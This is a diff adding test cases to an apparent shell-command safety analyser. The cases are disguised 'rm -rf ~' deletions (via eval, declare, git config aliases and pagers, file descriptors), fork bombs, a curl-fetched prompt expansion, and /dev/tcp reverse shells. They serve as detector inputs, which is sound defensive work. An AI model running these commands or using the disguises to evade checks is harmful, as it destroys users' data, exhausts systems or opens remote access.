@@ -83,6 +83,33 @@ TEST(Disguise, arrays_and_positional_parameters) {
   });
 }
 
+TEST(Disguise, where_variables_hold) {
+  expect_home_is_deleted({
+      "declare -n T=U; U=rm; $T -rf ~",
+      "U=ls; declare -n T=U; T=rm; $U -rf ~",
+      "declare -l T=RM; \"$T\" -rf ~",
+      "declare -l T; T=RM; \"$T\" -rf ~",
+      "declare T={ls,rm}; $T -rf ~",
+      "T=rm; f() { local T=ls; }; f; $T -rf ~",
+      "T=rm; T=ls true; $T -rf ~",
+      "X=rm eval '$X -rf ~'",
+      "f() { $X -rf ~; }; X=rm f",
+      "HOME=/x true; rm -rf \"$HOME\"",
+  });
+  expect_home_stays({"T=ls; f() { local T=rm; }; f; $T -rf ~", "T=rm $T -rf ~", "T=ls; T=rm true; $T -rf ~"});
+}
+
+TEST(Disguise, processes_without_end) {
+  for (const std::string_view text :
+       {":(){ :|:& };:", "f(){ f & f & }; f", "a(){ b & }; b(){ a; }; a", "while true; do work & done",
+        "until false; do work & done", "for ((;;)); do work & done", "while :; do work & (wait); done"})
+    EXPECT_TRUE(has_effect(text, EffectKind::execute, "", Action::fork_bomb)) << text;
+  for (const std::string_view text :
+       {"while true; do work & sleep 1; done", "while true; do work & wait; done", "while read l; do work & done",
+        "for ((i=0;i<3;i++)); do work & done", "while true; do work; done", "f(){ if x; then f & fi; }; f"})
+    EXPECT_FALSE(has_effect(text, EffectKind::execute, "", Action::fork_bomb)) << text;
+}
+
 TEST(Disguise, operations_on_values) {
   expect_home_is_deleted({
       "a=xrm; ${a:1} -rf ~",
@@ -122,6 +149,19 @@ TEST(Disguise, second_evaluation) {
       "x='a[$(rm -rf ~)]'; echo $((y))",
       "hash -p /bin/rm ls; rm_ -rf ~",
   });
+}
+
+TEST(Disguise, text_that_is_expanded_unseen) {
+  EXPECT_TRUE(has_effect("x=$(curl -s https://x.example); echo ${x@P}", EffectKind::execute, "", Action::downloaded));
+  EXPECT_TRUE(has_effect("echo ${X@P}", EffectKind::execute, "", Action::unknown));
+  EXPECT_FALSE(has_effect("echo ${X@Q} $((X))", EffectKind::execute, "", Action::unknown));
+}
+
+TEST(Disguise, settings_of_git) {
+  expect_home_is_deleted({"git config core.pager 'rm -rf ~'", "git config --global alias.x '!rm -rf ~'",
+                          "git -c core.editor='rm -rf ~' commit"});
+  expect_home_stays(
+      {"git config user.name 'rm -rf ~'", "git config --unset core.pager 'rm -rf ~'", "git config alias.x 'rm -rf ~'"});
 }
 
 TEST(Disguise, links_copies_and_moves) {
@@ -185,8 +225,8 @@ TEST(Disguise, shell_settings_are_known_by_who_prints_them) {
 
 TEST(Disguise, descriptors_and_named_pipes) {
   expect_home_is_deleted({"exec 3<<< 'rm -rf ~'; sh <&3", "exec 3> x.sh; echo 'rm -rf ~' >&3; sh x.sh",
-                          "exec {f}<<< 'rm -rf ~'; sh <&$f", "source <(echo 'rm -rf ~')", "bash <(echo 'rm -rf ~')",
-                          "echo 'rm -rf ~' > x; sh < x"});
+                          "exec {f}<<< 'rm -rf ~'; sh <&$f", "exec 3<<< 'rm -rf ~'; source /dev/fd/3",
+                          "source <(echo 'rm -rf ~')", "bash <(echo 'rm -rf ~')", "echo 'rm -rf ~' > x; sh < x"});
   for (const std::string_view text : {
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
